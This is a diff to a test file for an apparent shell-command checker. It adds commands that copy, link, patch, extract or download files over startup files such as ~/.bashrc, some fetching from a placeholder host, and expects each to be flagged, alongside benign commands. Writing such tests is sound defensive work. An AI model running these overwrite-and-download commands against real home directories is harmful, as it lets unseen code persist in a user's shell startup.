@@ -22,6 +22,20 @@ unzip a.zip -d ~
 git clone x ~
 cd; git checkout x
 git --work-tree=$HOME checkout x
+cp a/.bashrc ~
+cp .bashrc ~/
+mv .b* ~
+install -t ~ .bashrc
+ln -sf a/.bashrc ~
+cd; ln -sf a/.bashrc
+cd; patch -p0 < a
+patch -d ~ < a
+tar --directory=$HOME -xf a
+tar -xf a --one-top-level=/home/me
+tar -xPf a
+wget -P ~ http://x.example/a
+cd; wget http://x.example/a
+curl --output-dir ~ -O http://x.example/a
 """
 
 
@@ -34,6 +48,12 @@ def test_attack_what_may_replace_start_up_files_is_asked(text: str) -> None:
     "text",
     [
         "cp -r a b",
+        "cp .env.example .env",
+        "ln -s a b",
+        "patch -p1 < a.diff",
+        "wget https://x.example/a.txt",
+        "curl -s https://x.example",
+        "cd && curl -s https://x.example",
         "cp a.txt ~/Documents",
         "scp -r docs me@host:/home/me/",
         "tar xf a.tar",
